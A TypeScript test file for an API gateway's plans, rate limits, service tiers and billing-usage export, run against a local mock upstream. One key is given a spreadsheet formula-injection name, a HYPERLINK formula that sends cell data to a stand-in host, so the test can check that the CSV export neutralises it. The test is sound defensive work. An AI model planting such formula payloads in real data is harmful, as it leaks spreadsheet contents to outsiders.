// The cloud posture's plans and metering: a key's limits come from its own values, else its plan's, else the
// default plan's (config `plans`, limits.defaultPlan); every call's use (calls, errors, rate-limit refusals, input
// and generated tokens, per endpoint) is kept per key and day, and `sovereign usage export` writes it for billing.
// Calls go through the daemon to a small local OpenAI-shaped upstream that reports fixed usage.
import http from 'node:http';
import { readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import t from 'tap';
import { openStore } from '../daemon/store/index.js';
import { UsageMeter } from '../daemon/usage/index.js';
import { cli, createKey, startDaemon, tempDir } from './helpers/daemon.js';
import { request } from './helpers/http.js';
import { selfSignedCert } from './helpers/tls.js';

const upstream = http.createServer((req, res) => {
  const chunks: Buffer[] = [];
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    res.setHeader('content-type', 'application/json');
    if (req.method === 'GET') return res.end(JSON.stringify({ data: [{ id: 'm' }, { id: 'e' }] }));
    if (Buffer.concat(chunks).includes('refuse me')) {
      res.statusCode = 400;
      return res.end(JSON.stringify({ error: { message: 'no' } }));
    }
    if (req.url === '/v1/embeddings') {
      return res.end(JSON.stringify({ data: [{ index: 0, embedding: [1, 0] }], usage: { prompt_tokens: 5, total_tokens: 5 } }));
    }
    res.end(
      JSON.stringify({
        choices: [{ index: 0, message: { role: 'assistant', content: 'ok' }, finish_reason: 'stop' }],
        usage: { prompt_tokens: 11, completion_tokens: 7, total_tokens: 18 },
      }),
    );
  });
});
await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
t.teardown(() => upstream.close());

const dir = tempDir(t);
const tls = selfSignedCert(dir);
const dataDir = join(dir, 'data');
const settings = {
  posture: 'cloud',
  region: 'sa-riyadh-1',
  listen: { host: '127.0.0.1', port: 0 },
  tls: { cert: tls.cert, key: tls.key },
  dataDir,
  plans: { starter: { rpm: 3, tpm: 100_000 }, business: { rpm: 1000, tpm: 1_000_000, priority: true, weight: 2 } },
  limits: { defaultPlan: 'starter' },
  upstreams: [
    {
      name: 'rack',
      baseUrl: `http://127.0.0.1:${(upstream.address() as AddressInfo).port}/v1`,
      models: [
        { id: 'chat', upstreamModel: 'm', capability: 'chat' },
        { id: 'embed', upstreamModel: 'e', capability: 'embeddings' },
      ],
    },
  ],
};
const config = join(dir, 'cloud.json');
writeFileSync(config, JSON.stringify(settings));
const withConfig = ['--config', config];
const onStarter = createKey(dataDir, 'retail', withConfig);
const onBusiness = createKey(dataDir, 'treasury', [...withConfig, '--plan', 'business']);
const ownLimit = createKey(dataDir, 'treasury', [...withConfig, '--plan', 'business', '--rpm', '5']);
// A name a spreadsheet would run as a formula, if the export let it through as it is.
const formulaNamed = createKey(dataDir, 'treasury', [...withConfig, '--plan', 'business', '--name', '=HYPERLINK("http://x/?"&A1,"x")']);
const daemon = await startDaemon(t, withConfig);
const call = (secret: string, path = '/models', body?: unknown) =>
  request(`${daemon.baseURL}${path}`, {
    method: body ? 'POST' : 'GET',
    headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json' },
    ca: tls.ca,
    ...(body ? { body: JSON.stringify(body) } : {}),
  });
// The upstream is listed once its health check answers (every 5 s; on a loaded machine the first may fail).
for (const until = Date.now() + 30_000; Date.now() < until;) {
  const listed = (await call(onBusiness.secret)).json.data?.length ?? 0;
  if (listed === 2) break;
  await new Promise((resolve) => setTimeout(resolve, 100));
}

t.test("limits come from the key's own values, else its plan, else the default plan", async (t) => {
  const starter = [];
  for (let i = 0; i < 4; i++) starter.push(await call(onStarter.secret));
  t.same(
    starter.map((r) => r.status),
    [200, 200, 200, 429],
    'a key with no plan is on the default plan (starter: 3 a minute)',
  );
  t.equal(starter[0].headers['x-ratelimit-limit-requests'], '3');
  t.equal((await call(onBusiness.secret)).headers['x-ratelimit-limit-requests'], '1000', 'a key on business');
  t.equal((await call(ownLimit.secret)).headers['x-ratelimit-limit-requests'], '5', 'its own limit before its plan’s');
  t.equal((await call(ownLimit.secret)).headers['x-ratelimit-limit-tokens'], '1000000', 'and its plan’s token limit');

  const moved = cli(['keys', 'plan', onStarter.id, 'business', ...withConfig, '--json']);
  t.equal(moved.code, 0, moved.stderr);
  t.equal(moved.json.plan, 'business');
  const after = await call(onStarter.secret);
  t.equal(after.status, 200, 'moved to a larger plan, the key is admitted at once');
  t.equal(after.headers['x-ratelimit-limit-requests'], '1000');
  t.equal(cli(['keys', 'plan', onStarter.id, 'default', ...withConfig, '--json']).json.plan, null, 'and back to the default');

  const unknown = cli(['keys', 'create', '--project', 'retail', '--plan', 'gold', ...withConfig]);
  t.equal(unknown.code, 2);
  t.match(unknown.stderr, /no plan 'gold' in the config's 'plans' \(plans: starter, business\)/);
  const list = cli(['keys', 'list', ...withConfig]);
  t.match(list.stdout, /PLAN[\s\S]*business/, 'keys list shows plans');
});

t.test("service_tier 'priority' is taken for a key whose plan allows it; another key is served at default, and told", async (t) => {
  // Keys of their own: the usage test below counts the others' calls.
  const business = createKey(dataDir, 'tiers', [...withConfig, '--plan', 'business']);
  const starter = createKey(dataDir, 'tiers', withConfig);
  const ask = async (secret: string, service_tier?: string) =>
    (
      await call(secret, '/chat/completions', {
        model: 'chat',
        messages: [{ role: 'user', content: 'hi' }],
        ...(service_tier ? { service_tier } : {}),
      })
    ).json.service_tier;
  t.equal(await ask(business.secret, 'priority'), 'priority', 'business allows priority');
  t.equal(await ask(business.secret, 'flex'), 'flex');
  t.equal(await ask(business.secret), 'default');
  t.equal(await ask(starter.secret, 'priority'), 'default', 'starter does not: lowered to default, and the answer says so');
  const unknown = await call(business.secret, '/chat/completions', {
    model: 'chat',
    messages: [{ role: 'user', content: 'hi' }],
    service_tier: 'scale',
  });
  t.equal(unknown.status, 400);
});

t.test('config: the default plan must be defined', async (t) => {
  const file = join(dir, 'bad.json');
  writeFileSync(file, JSON.stringify({ ...settings, limits: { defaultPlan: 'platinum' } }));
  const checked = cli(['config', 'check', '--config', file]);
  t.equal(checked.code, 1);
  t.match(
    checked.stdout + checked.stderr,
    /'limits.defaultPlan' is 'platinum', which 'plans' does not define \(plans: starter, business\)/,
  );
});

t.test('usage is metered per key, endpoint and day, and exported for billing', async (t) => {
  for (let i = 0; i < 2; i++) {
    t.equal(
      (await call(onBusiness.secret, '/chat/completions', { model: 'chat', messages: [{ role: 'user', content: 'hi' }] })).status,
      200,
    );
  }
  // A streamed answer is written by its route, past fastify's send; its use is metered all the same.
  const streamed = await call(onBusiness.secret, '/chat/completions', {
    model: 'chat',
    stream: true,
    messages: [{ role: 'user', content: 'hi' }],
  });
  t.equal(streamed.status, 200);
  t.match(streamed.text, /data: \[DONE\]\n\n$/, 'the stream ended');
  t.equal((await call(onBusiness.secret, '/embeddings', { model: 'embed', input: 'hello' })).status, 200);
  t.equal((await call(onBusiness.secret, '/chat/completions', { model: 'nope', messages: [{ role: 'user', content: 'x' }] })).status, 404);
  const refused = await call(onBusiness.secret, '/chat/completions', { model: 'chat', messages: [{ role: 'user', content: 'refuse me' }] });
  t.equal(refused.status, 400, 'a call the upstream refused');
  t.equal((await call(formulaNamed.secret)).status, 200);
  // Counts reach the store every 5 s and at shutdown.
  await daemon.stop();

  const today = new Date().toISOString().slice(0, 10);
  const exported = cli(['usage', 'export', '--format', 'jsonl', ...withConfig]);
  t.equal(exported.code, 0, exported.stderr);
  const rows = exported.stdout
    .trim()
    .split('\n')
    .map((line) => JSON.parse(line) as Record<string, string | number>);
  const business = rows.filter((r) => r.key === onBusiness.id);
  const chat = business.find((r) => r.endpoint === '/v1/chat/completions')!;
  t.match(
    chat,
    {
      day: today,
      project_name: 'treasury',
      plan: 'business',
      requests: 5,
      errors: 2,
      rate_limited: 0,
      prompt_tokens: 33,
      completion_tokens: 21,
    },
    'the streamed call is counted with its tokens; the refused call and the unknown model too, and billed no tokens',
  );
  t.match(
    business.find((r) => r.endpoint === '/v1/embeddings'),
    { requests: 1, prompt_tokens: 5, completion_tokens: 0 },
  );
  t.match(
    business.find((r) => r.endpoint === '/v1/models'),
    { prompt_tokens: 0, completion_tokens: 0 },
  );
  const starter = rows.find((r) => r.key === onStarter.id && r.endpoint === '/v1/models');
  t.match(starter, { requests: 5, rate_limited: 1, plan: 'starter', project_name: 'retail' }, 'refusals are counted too');

  const csvFile = join(dir, 'billing.csv');
  const csv = cli(['usage', 'export', '--project', 'treasury', '--from', today, '--to', today, '--out', csvFile, ...withConfig]);
  t.equal(csv.code, 0, csv.stderr);
  const lines = readFileSync(csvFile, 'utf8').trim().split('\n');
  t.equal(lines[0], 'day,project,project_name,key,key_name,plan,endpoint,requests,errors,rate_limited,prompt_tokens,completion_tokens');
  t.ok(lines.length > 1 && lines.slice(1).every((l) => l.includes(',treasury,')), `only the project asked for: ${lines.join(' / ')}`);
  t.notOk(lines.some((l) => l.includes(onStarter.id)));
  const formulaLine = lines.find((l) => l.includes(formulaNamed.id))!;
  t.match(formulaLine, /,"'=HYPERLINK\(""http:\/\/x\/\?""&A1,""x""\)",/, 'a name that starts like a formula is written as text');

  t.equal(cli(['usage', 'export', '--from', '2026-13-01', ...withConfig]).code, 2, 'a bad day is a usage error');
  const unknownProject = cli(['usage', 'export', '--project', 'nobody', ...withConfig]);
  t.not(unknownProject.code, 0);
  t.match(unknownProject.stderr, /nobody/);
  const yesterday = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
  const none = cli(['usage', 'export', '--from', yesterday, '--to', yesterday, '--format', 'jsonl', ...withConfig]);
  t.equal(none.stdout.trim(), '', 'no rows for a day without calls');
});

t.test('counts made on both sides of a flush all reach the store, and those of another minute, key or endpoint apart', async (t) => {
  const store = openStore(tempDir(t));
  t.teardown(() => store.close());
  const meter = new UsageMeter(store);
  const at = Date.UTC(2026, 10, 25, 10, 0, 30);
  meter.record('key_a', '/v1/chat/completions', 200, at);
  meter.record('key_a', '/v1/chat/completions', 500, at);
  meter.recordTokens('key_a', '/v1/chat/completions', 10, 5, at);
  await meter.flush();
  meter.record('key_a', '/v1/chat/completions', 200, at + 1000);
  meter.recordTokens('key_a', '/v1/chat/completions', 1, 2, at + 1000);
  meter.record('key_a', '/v1/chat/completions', 429, at + 60_000);
  meter.record('key_b', '/v1/chat/completions', 200, at + 60_000);
  meter.record('key_b', '/v1/embeddings', 200, at + 60_000);
  await meter.flush();
  const rows = meter.billing('2026-11-25', '2026-11-25').map(({ key, route, calls, errors, limited, promptTokens, completionTokens }) => ({
    key,
    route,
    calls,
    errors,
    limited,
    promptTokens,
    completionTokens,
  }));
  t.same(rows, [
    { key: 'key_a', route: '/v1/chat/completions', calls: 4, errors: 1, limited: 1, promptTokens: 11, completionTokens: 7 },
    { key: 'key_b', route: '/v1/chat/completions', calls: 1, errors: 0, limited: 0, promptTokens: 0, completionTokens: 0 },
    { key: 'key_b', route: '/v1/embeddings', calls: 1, errors: 0, limited: 0, promptTokens: 0, completionTokens: 0 },
  ]);
  const minutes = meter.series(new Set(['key_a']), at - 60_000).map((p) => [p.minute, p.calls]);
  t.same(minutes, [
    ['2026-11-25T10:00:00.000Z', 3],
    ['2026-11-25T10:01:00.000Z', 1],
  ]);
});
